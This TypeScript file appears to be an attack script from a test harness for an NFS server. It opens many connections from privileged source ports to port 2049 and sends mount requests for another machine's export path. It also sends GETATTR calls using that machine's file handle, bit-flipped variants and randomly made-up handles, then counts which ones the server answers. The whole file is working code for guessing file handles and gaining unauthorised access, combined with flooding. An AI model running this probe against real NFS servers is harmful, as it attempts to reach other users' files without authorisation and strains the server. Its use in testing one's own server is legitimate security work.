/**
 * File handles and export paths that are not the attacker's: `handles.ts SERVER EXPORT-PATH HANDLE CONNECTIONS ADDRESSES`. Over each
 * connection, from a port of root, it tries in turn another Pi's path and handle, that handle with a bit changed, and handles that
 * it makes up; and counts what is answered to each.
 */
import { once } from "node:events";
import { connect, type Socket } from "node:net";
import { callRecord, GETATTR, MNT, MOUNT, NFS, opaque, readReply } from "../../harness/rpc.ts";
import { count, over, ownAddress, pause, random, randomBytes, server, underWay, words } from "./attack.ts";

const [path = "", handleText = "", connections = "", addresses = ""] = words;
const handle = Buffer.from(handleText, "hex");
/** Calls of a round. */
const ROUND = 20;

function flipped(): Buffer {
	const other = Buffer.from(handle);
	const at = random(other.length);
	other[at] = (other[at] ?? 0) ^ (1 << random(8));
	return other;
}

const getattr = (bytes: Buffer) => ({ program: NFS, procedure: GETATTR, body: opaque(bytes) });
const KINDS = [
	["path", () => ({ program: MOUNT, procedure: MNT, body: opaque(path) })],
	["handle", () => getattr(handle)],
	["flipped", () => getattr(flipped())],
	["made up", () => getattr(randomBytes(handle.length))],
	["of any length", () => getattr(randomBytes(random(65)))],
] as const;

/** Counts the replies by what was asked and by the status of the results; the calls have their kind in the xid. */
function listen(socket: Socket): void {
	let received = Buffer.alloc(0);
	socket.on("data", (chunk: Buffer) => {
		received = Buffer.concat([received, chunk]);
		while (received.length >= 4) {
			const end = 4 + (received.readUInt32BE(0) & 0x7fff_ffff);
			if (received.length < end) return;
			const message = received.subarray(4, end);
			received = received.subarray(end);
			const [kind = ""] = KINDS[message.readUInt32BE(0) % KINDS.length] ?? [];
			const reply = readReply(message);
			count(`${kind}: ${reply.kind === "accepted" && reply.status === 0 ? reply.body.readUInt32BE(0) : reply.kind}`);
		}
	});
}

const sockets: Socket[] = [];
for (let each = 0; each < Number(connections); each++) {
	const localAddress = ownAddress(each % Number(addresses));
	const socket = connect({ host: server, port: 2049, localAddress, localPort: 600 + each });
	socket.on("error", () => count("errors"));
	socket.once("close", () => count("closed"));
	listen(socket);
	sockets.push(socket);
	await once(socket, "connect");
}

let xid = 0;
for (let round = 0; !over(); round++) {
	for (const socket of sockets) {
		for (let each = 0; each < ROUND && !socket.destroyed; each++) {
			const [, make] = KINDS[++xid % KINDS.length] ?? [];
			if (make !== undefined) socket.write(callRecord(make(), xid));
		}
	}
	if (round === 5) underWay();
	await pause(50);
}
